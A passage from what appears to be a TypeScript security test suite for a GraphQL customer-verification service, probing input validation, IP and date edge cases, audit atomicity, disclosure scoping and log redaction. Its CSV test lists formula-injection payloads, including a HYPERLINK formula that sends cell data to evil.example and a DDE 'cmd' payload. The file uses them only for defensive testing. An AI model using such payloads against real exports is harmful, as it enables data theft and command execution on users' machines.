      expect(err).toBeTruthy();
      const many = await t.gql(OPEN_RECORD, { in: recordInput(a2!, { emails: Array.from({ length: 5000 }, (_, i) => `m${i}@example.org`) }) }, tok[P]!);
      expect(many.data?.openCustomerRecord?.record ?? null).toBeNull();
      const basis = await t.gql(REQUEST, { a: a2, b: "y".repeat(200_000) }, tok[A]!);
      expect(basis.data?.requestDisclosure?.request ?? null).toBeNull();
    });

    it("a body that is not UTF-8, or past the size limit, is refused before the subgraph reads it", async () => {
      for (const url of [t.gatewayUrl, t.subgraphUrl("verification")]) {
        const head = Buffer.from(`{"query":"query($a: ID!) { customerRecord(accountId: $a) { id } }","variables":{"a":"`);
        const bad = Buffer.concat([head, Buffer.from([0xff, 0xfe, 0xc3]), Buffer.from(`"}}`)]);
        const res = await fetch(url, { method: "POST", headers: { "content-type": "application/json", authorization: `Bearer ${tok[P]}`, "apollo-require-preflight": "1" }, body: bad });
        const text = await res.text();
        expect(res.status, url).toBe(400);
        expectNoInternals(text);
        const big = JSON.stringify({ query: CUSTOMER_RECORD, variables: { a: a1, pad: "p".repeat(5 * 1024 * 1024) } });
        const tooBig = await fetch(url, { method: "POST", headers: { "content-type": "application/json", authorization: `Bearer ${tok[P]}` }, body: big });
        const bigText = await tooBig.text();
        expect(tooBig.status, url).toBe(413);
        expectNoInternals(bigText);
        expect(bigText).not.toContain(r1.customer.names[0]);
      }
    });

    it("refuses malformed Unicode in every free-text argument, naming the field and echoing nothing", async () => {
      const bad = "Ivan\ud800Sidorov";
      const cases: [string, Record<string, unknown>, (d: any) => any][] = [
        [OPEN_RECORD, { in: recordInput(a3!, { customer: { ...(recordInput(a3!).customer as object), names: [bad] } }) }, (d) => d.openCustomerRecord],
        [SET_STATUS, { id: r2.id, s: "UNVERIFIED", r: bad }, (d) => d.setVerificationStatus],
        [HOLD, { id: r2.id, r: bad }, (d) => d.placeLegalHold],
        [ADD_CHECK, { id: r2.id, in: { subject: "customer", method: "DOCUMENTARY", documentType: "passport", documentNumber: bad, issuingCountry: "FR", result: "PASS" } }, (d) => d.addVerificationCheck],
      ];
      for (const [q, vars, pick] of cases) {
        const res = await t.gql(q, vars, tok[P]!);
        expectNoInternals(res);
        expect(JSON.stringify(res)).not.toContain("Sidorov");
        const result = res.data ? pick(res.data) : null;
        expect(result?.record ?? null, q.slice(0, 40)).toBeNull();
        expect(result?.error ?? res.errors?.[0], q.slice(0, 40)).toBeTruthy();
      }
      const req = await t.gql(REQUEST, { a: a3, b: `${BASIS} ${bad}` }, tok[A]!);
      expect(req.data.requestDisclosure).toMatchObject({ request: null, error: { field: "legalBasis" } });
      const lookup = await t.gql(BY_IDENTIFIER, { t: "EMAIL", v: `a${bad}@example.org` }, tok[P]!);
      expect(lookup.errors?.[0]?.extensions?.code).toBe("BAD_USER_INPUT");
      expect(JSON.stringify(lookup)).not.toContain("Sidorov");
      const ip = (await ok(t, tok[P]!, ACCESS, { in: [{ accountId: a1, ip: "1.2.3.4\ud800", at: clock.now().toISOString(), action: "ACCESS" }] })).recordAccessEvents;
      expect(ip.rejected).toMatchObject([{ field: "input[0].ip" }]);
      expect(await db.query("select count(*)::int as n from verification.customer_record where account_id = $1", [a3!.slice(-36)])).toMatchObject({ rows: [{ n: 1 }] });
      // r2 kept its status and hold.
      expect((await read(tok[P]!, a2!)).status).toBe("PENDING");
    });

    it("a NUL, a control character or a lone surrogate in any free-text field is refused naming that field, never an internal error", async () => {
      const [fresh] = await registerAccounts(t, tok[P]!, [{ jurisdiction: "FR" }]);
      const set = (obj: any, path: string, value: unknown) => {
        const keys = path.split(".");
        let o = obj;
        for (const k of keys.slice(0, -1)) o = o[/^\d+$/.test(k) ? Number(k) : k];
        o[keys.at(-1)!] = value;
        return obj;
      };
      const base = () =>
        recordInput(fresh!, {
          payments: [{ type: "BANK_ACCOUNT", institution: "Test Bank", accountNumber: "FR7630006000011234567890189", customerIdentifier: "C-1", transactionIds: ["T-1"] }],
          phones: ["+33 1 23 45 67 89"],
          product: "edge-compute",
        });
      const paths = [
        "customer.names.0",
        "customer.addresses.0.lines.0",
        "customer.addresses.0.city",
        "customer.addresses.0.postalCode",
        "customer.nationalId",
        "payments.0.institution",
        "payments.0.accountNumber",
        "payments.0.customerIdentifier",
        "payments.0.transactionIds.0",
        "emails.0",
        "phones.0",
        "product",
      ];
      for (const bad of ["Zed\u0000Nul", "Zed\u001bEsc", "Zed\udc00Lone"]) {
        for (const path of paths) {
          const res = await t.gql(OPEN_RECORD, { in: set(base(), path, bad) }, tok[P]!);
          expectNoInternals(res);
          const label = `${path} ${JSON.stringify(bad)}`;
          expect(res.errors, label).toBeUndefined();
          expect(res.data.openCustomerRecord.record, label).toBeNull();
          const field = path.replace(/\.(\d+)/g, "[$1]");
          expect(res.data.openCustomerRecord.error.field, label).toBe(field);
          expect(JSON.stringify(res)).not.toContain("Zed");
        }
        const check = await t.gql(ADD_CHECK, { id: r1.id, in: { subject: "customer", method: "NON_DOCUMENTARY", source: bad, result: "FAIL", discrepancy: bad } }, tok[P]!);
        expectNoInternals(check);
        expect(check.data.addVerificationCheck).toMatchObject({ record: null, error: { code: "BAD_USER_INPUT" } });
        const ex = await t.gql(GRANT, { in: { scope: "PRODUCT", product: bad, basis: "programme X-1", grantedOn: "2026-01-01", expiresOn: "2027-01-01" } }, tok[P]!);
        expectNoInternals(ex);
        expect(ex.data.grantExemption).toMatchObject({ exemption: null, error: { field: "product" } });
      }
      // Numbers and dates at their edges in the same input.
      for (const [path, value] of [
        ["customer.dateOfBirth", "0000-00-00"],
        ["customer.dateOfBirth", "2023-02-29"],
        ["customer.dateOfBirth", "99999-01-01"],
        ["customer.dateOfBirth", 19850714],
        ["customer.dateOfBirth", "9999-12-31"],
      ] as const) {
        const res = await t.gql(OPEN_RECORD, { in: set(base(), path, value) }, tok[P]!);
        expectNoInternals(res);
        expect(res.data?.openCustomerRecord?.error?.field, `${path} ${value}`).toBe("customer.dateOfBirth");
      }
      for (const pct of [-1, 100.5, 1e308]) {
        const owner = { ...(base().customer as object), ownershipPercent: pct };
        const res = await t.gql(OPEN_RECORD, { in: { ...base(), beneficialOwners: [owner] } }, tok[P]!);
        expectNoInternals(res);
        expect(res.data?.openCustomerRecord?.record ?? null, `ownershipPercent ${pct}`).toBeNull();
      }
      expect((await db.query("select count(*)::int as n from verification.customer_record where account_id = $1", [fresh!.slice(-36)])).rows[0].n).toBe(0);
    });

    it("IP edges: mapped IPv4 in any spelling is stored as IPv4; zone ids, /0 and over-wide networks are refused", async () => {
      const at = new Date(clock.now().getTime() - 500).toISOString();
      const res = (await ok(t, tok[P]!, ACCESS, {
        in: [
          { accountId: a2, ip: "::ffff:192.0.2.44", at, action: "ACCESS" },
          { accountId: a2, ip: "::FFFF:192.0.2.45", at, action: "ACCESS" },
          { accountId: a2, ip: "0:0:0:0:0:ffff:192.0.2.46", at, action: "ACCESS" },
          { accountId: a2, ip: "::ffff:c000:22f", at, action: "ACCESS" },
          { accountId: a2, ip: "fe80::1%eth0", at, action: "ACCESS" },
          { accountId: a2, ip: "192.0.2.300", at, action: "ACCESS" },
          { accountId: a2, ip: "192.0.2.1/32", at, action: "ACCESS" },
          { accountId: a2, ip: " 192.0.2.1", at, action: "ACCESS" },
          { accountId: a2, ip: "", at, action: "ACCESS" },
        ],
      })).recordAccessEvents;
      expect(res.rejected.map((r: any) => [r.index, r.field])).toEqual([4, 5, 6, 7, 8].map((i) => [i, `input[${i}].ip`]));
      for (const r of res.rejected) expect(r.message).not.toMatch(/fe80|192\.0\.2/);
      const stored = (await db.query("select host(ip) as ip, family(ip) as f from verification.access_event where owner = $1 and account_id = $2 order by ip", [P, a2!.slice(-36)])).rows;
      expect(stored).toEqual(["192.0.2.44", "192.0.2.45", "192.0.2.46", "192.0.2.47"].map((ip) => ({ ip, f: 4 })));
      const seen = async (ip: string) => (await ok(t, tok[P]!, SEEN, { ip })).accountsSeenFromIp;
      expect((await seen("192.0.2.0/24"))[0]).toMatchObject({ accountId: a2, events: 4 });
      expect((await seen("::ffff:192.0.2.0/120"))[0]).toMatchObject({ accountId: a2, events: 4 });
      expect((await seen("0:0:0:0:0:ffff:192.0.2.0/120"))[0]).toMatchObject({ accountId: a2, events: 4 });
      for (const ip of ["0.0.0.0/0", "::/0", "::ffff:0.0.0.0/96", "10.0.0.0/7", "2001::/15", "fe80::1%eth0", "fe80::1%eth0/64", "1.2.3.4/33", "1.2.3.4/", "1.2.3.4/-1", "1.2.3.4/1/2", "x".repeat(5000)]) {
        const r = await t.gql(SEEN, { ip }, tok[P]!);
        expect(r.errors?.[0]?.extensions?.code, ip.slice(0, 30)).toBe("BAD_USER_INPUT");
        expect(r.errors![0]!.message).not.toContain(ip.slice(0, 8) === "xxxxxxxx" ? "xxxxxxxxxx" : ip);
      }
    });

    it("dates at the edges are accepted or refused as input, never an internal error", async () => {
      const edges = ["0001-01-01T00:00:00Z", "9999-12-31T23:59:59.999Z", "1970-01-01T00:00:00Z", "2026-02-30T00:00:00Z", "-000001-01-01T00:00:00Z", "+275760-09-13T00:00:00Z", "not a date"];
      for (const d of edges) {
        for (const [q, vars] of [
          [HISTORY, { a: a1, from: d }],
          [HISTORY, { a: a1, to: d }],
          [SEEN, { ip: "198.51.100.7", from: d }],
          [REPORT, { asOf: d }],
          [REPORT_CSV, { asOf: d }],
          [ACCESS, { in: [{ accountId: a1, ip: "198.51.100.99", at: d, action: "ACCESS" }] }],
        ] as const) {
          const res = await t.gql(q, vars as any, tok[P]!);
          expectNoInternals(res);
          if (res.errors) expect(["BAD_USER_INPUT", "BAD_REQUEST", "GRAPHQL_VALIDATION_FAILED"], `${q.slice(0, 30)} ${d} ${JSON.stringify(res.errors)}`).toContain(res.errors[0]!.extensions?.code);
        }
      }
      expect(await db.query("select count(*)::int as n from verification.access_event where ip = '198.51.100.99'")).toMatchObject({ rows: [{ n: 0 }] });
    });

    it("_entities takes any representation without an error that reveals anything", async () => {
      const reps = [{ __typename: "Account", id: a1 }, { __typename: "Account", id: 42 }, { __typename: "Account" }, { __typename: "Account", id: "x".repeat(10_000) }, { __typename: "Account", id: a1!.toUpperCase() }];
      for (const url of [undefined, t.subgraphUrl("verification")]) {
        const res = await t.gql(ENTITIES, { r: reps }, tok[Q]!, url);
        expectNoInternals(res);
        expect(JSON.stringify(res.data ?? null)).not.toContain("PENDING");
      }
      // Without a token the subgraph answers nothing.
      const anon = await t.gql(ENTITIES, { r: [{ __typename: "Account", id: a1 }] }, undefined, t.subgraphUrl("verification"));
      expect(JSON.stringify(anon.data ?? null)).not.toContain("PENDING");
    });
  });

  describe("report and CSV", () => {
    it("a formula in a basis or a status reason reaches the CSV as text, never as a formula", async () => {
      const today = clock.now().toISOString().slice(0, 10);
      const later = new Date(clock.now().getTime() + 90 * DAY).toISOString().slice(0, 10);
      const payloads = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "|calc"];
      for (const basis of payloads) {
        const res = (await ok(t, tok[P]!, GRANT, { in: { scope: "PRODUCT", product: `prod-${payloads.indexOf(basis)}`, basis, grantedOn: today, expiresOn: later } })).grantExemption;
        if (res.error) expect(res.error.field).toBe("basis");
      }
      // A FAILED record's reason is an unverifiable case's cell.
      const failed = await setStatus(t, tok[P]!, r2, "FAILED", "=HYPERLINK(\"http://evil.example\",\"click\")");
      expect(failed.status).toBe("FAILED");
      const csv = (await ok(t, tok[P]!, REPORT_CSV, { asOf: clock.now().toISOString() })).cipCertificationReportCsv as string;
      // No cell, quoted or not, starts with a formula trigger.
      const cells = parseCsv(csv);
      expect(cells.length).toBeGreaterThan(1);
      for (const row of cells) for (const cell of row) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
      expect(csv).toContain("HYPERLINK");
      // Status reasons are sealed: none reaches PostgreSQL in clear.
      const raw = await db.query("select reason::text from verification.status_change where record_id = $1", [r2.id.slice(-36)]);
      expect(JSON.stringify(raw.rows)).not.toContain("HYPERLINK");
    });
  });

  describe("audit", () => {
    it("an action whose audit link cannot be written fails whole: no data returned, nothing stored", async () => {
      const record = await openRecord(t, tok[F]!, f1!);
      await ok(t, tok[F]!, ACCESS, { in: [{ accountId: f1, ip: "192.0.2.77", at: clock.now().toISOString(), action: "ACCESS" }] });
      await db.query(`create or replace function verification.attack_audit_fails() returns trigger language plpgsql as $$
        begin if new.org = '${F}' then raise exception 'audit refused for test'; end if; return new; end $$`);
      await db.query("create trigger attack_audit_fails before insert on verification.audit_trail for each row execute function verification.attack_audit_fails()");
      try {
        const rd = await t.gql(CUSTOMER_RECORD, { a: f1 }, tok[F]!);
        expect(rd.data?.customerRecord ?? null).toBeNull();
        expect(rd.errors?.[0]?.extensions?.code).toBe("INTERNAL_SERVER_ERROR");
        expectNoInternals(rd);
        expect(JSON.stringify(rd)).not.toContain("Test Customer");
        expect(JSON.stringify(rd)).not.toContain("audit refused");

        const h = await t.gql(HISTORY, { a: f1 }, tok[F]!);
        expect(h.data ?? null).toBeNull();
        expect(JSON.stringify(h)).not.toContain("192.0.2.77");
        const s = await t.gql(SEEN, { ip: "192.0.2.77" }, tok[F]!);
        expect(s.data ?? null).toBeNull();
        const byId = await t.gql(BY_IDENTIFIER, { t: "CARD", v: "4111111111111111" }, tok[F]!);
        expect(byId.data ?? null).toBeNull();
        const rep = await t.gql(REPORT_CSV, { asOf: clock.now().toISOString() }, tok[F]!);
        expect(rep.data ?? null).toBeNull();

        const st = await t.gql(SET_STATUS, { id: record.id, s: "UNVERIFIED", r: "should not stick" }, tok[F]!);
        expect(st.data?.setVerificationStatus?.record ?? null).toBeNull();
        const hold = await t.gql(HOLD, { id: record.id, r: "should not stick" }, tok[F]!);
        expect(hold.data?.placeLegalHold?.record ?? null).toBeNull();
        const ev = await t.gql(ACCESS, { in: [{ accountId: f1, ip: "192.0.2.78", at: clock.now().toISOString(), action: "ACCESS" }] }, tok[F]!);
        expect(ev.data?.recordAccessEvents ?? null).toBeNull();
        const req = await t.gql(REQUEST, { a: f1, b: BASIS }, tok[A]!);
        expect(req.data?.requestDisclosure?.request ?? null).toBeNull();
        const purge = await t.gql(PURGE, {}, tok[F]!);
        expect(purge.data?.purgeExpiredRecords ?? null).toBeNull();
        const [row] = (await db.query("select status, legal_hold from verification.customer_record where id = $1", [record.id.slice(-36)])).rows;
        expect(row).toEqual({ status: "PENDING", legal_hold: false });
        expect(await db.query("select count(*)::int as n from verification.access_event where owner = $1", [F])).toMatchObject({ rows: [{ n: 1 }] });
        expect(await db.query("select count(*)::int as n from verification.disclosure_request where owner = $1", [F])).toMatchObject({ rows: [{ n: 0 }] });
      } finally {
        await db.query("drop trigger if exists attack_audit_fails on verification.audit_trail");
      }
      expect((await ok(t, tok[F]!, CHAIN)).verifyAuditChain.ok).toBe(true);
    });
  });

  describe("a disclosure grants one record", () => {
    it("an approval for an account's record does not reach a later record of the same account", async () => {
      const [acct] = await registerAccounts(t, tok[P]!, [{ jurisdiction: "FR" }]);
      const first = await openRecord(t, tok[P]!, acct!);
      const req = (await ok(t, tok[A]!, REQUEST, { a: acct, b: BASIS })).requestDisclosure.request.id;
      expect((await ok(t, tok[P]!, DECIDE, { id: req, ok: true, r: "order checked" })).decideDisclosure.error).toBeNull();
      expect((await read(tok[A]!, acct!)).id).toBe(first.id);
      // The record is closed and, its retention (1 day in this hub) past, purged; the account gets a new one.
      await setStatus(t, tok[P]!, first, "CLOSED", "account closed");
      clock.advance(2);
      expect((await ok(t, tok[P]!, PURGE)).purgeExpiredRecords.purged).toBeGreaterThanOrEqual(1);
      const second = await openRecord(t, tok[P]!, acct!);
      await ok(t, tok[P]!, ACCESS, { in: [{ accountId: acct, ip: "203.0.113.77", at: clock.now().toISOString(), action: "ACCESS" }] });
      // The grant, still within its days, was for the first record only.
      for (const url of [undefined, t.subgraphUrl("verification")]) {
        expect(await read(tok[A]!, acct!, url)).toBeNull();
        const e = await ok(t, tok[A]!, ENTITIES, { r: [{ __typename: "Account", id: acct }] }, t.subgraphUrl("verification"));
        expect(e._entities).toEqual([{ id: acct, verificationStatus: null }]);
        const h = await t.gql(HISTORY, { a: acct }, tok[A]!, url);
        expect(h.data ?? null).toBeNull();
        expect(JSON.stringify(h)).not.toContain("203.0.113.77");
      }
      expect((await read(tok[P]!, acct!)).id).toBe(second.id);
    });
  });

  describe("log lines", () => {
    it("hold no personal value, IP address, legal basis, reason or token from anything above", async () => {
      // Values written into the document itself, not as variables, and a refused one.
      await ok(t, tok[P]!, `query { customerRecordsByIdentifier(type: EMAIL, value: "inline.planted.4417@example.net") { id } }`);
      await t.gql(`query { customerRecordsByIdentifier(type: NATIONAL_ID, value: "Zed\\u0000inline") { id } }`, {}, tok[P]!);
      await t.gql(`query { accountsSeenFromIp(ip: "203.0.113.201/7") { accountId } }`, {}, tok[P]!);
      await t.gql(`query { accessHistory(accountId: "${a1}", after: "${b64("ae:9|203.0.113.202|ACCESS")}") { edges { cursor } } }`, {}, tok[P]!);
      // A query over GET carries its variables in the URL, which request logs like to print.
      for (const url of [t.gatewayUrl, t.subgraphUrl("verification")]) {
        const get = new URL(url);
        get.searchParams.set("query", BY_IDENTIFIER);
        get.searchParams.set("variables", JSON.stringify({ t: "EMAIL", v: "get.planted.5521@example.net" }));
        const got = await fetch(get, { headers: { authorization: `Bearer ${tok[P]}`, "apollo-require-preflight": "1" } });
        expect(JSON.parse(await got.text()), url).toEqual({ data: { customerRecordsByIdentifier: [] } });
      }
      await new Promise((r) => setTimeout(r, 300));
      const log = lines.join("");
      expect(log.length).toBeGreaterThan(0);
      const secrets = [
        nationalId,
        "Test Customer",
        "4111 1111 1111 1111",
        "4111111111111111",
        "198.51.100.7",
        "198.51.100.8",
        "2001:db8::7",
        "192.0.2.44",
        "192.0.2.77",
        "fe80::1",
        "Sidorov",
        "26-mj-9931",
        "HYPERLINK",
        "order checked",
        "should not stick",
        "192.0.2.78",
        "Zed",
        "inline.planted",
        "get.planted",
        "203.0.113.201",
        "203.0.113.202",
        ...Object.values(tok),
        ...Object.values(tok).map((tk) => tk.split(".")[2]!),
      ];
      for (const s of secrets) expect(log.includes(s), `log holds ${s.slice(0, 20)}…`).toBe(false);
      expect(log).not.toMatch(/example\.org/);
    });
  });
});

/** RFC 4180 cells (quoted fields may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") row.push(cell), (cell = "");
    else if (c === "\r" && text[i + 1] === "\n") row.push(cell), rows.push(row), (row = []), (cell = ""), i++;
    else cell += c;
  }
  if (cell || row.length) row.push(cell), rows.push(row);
  return rows;
}
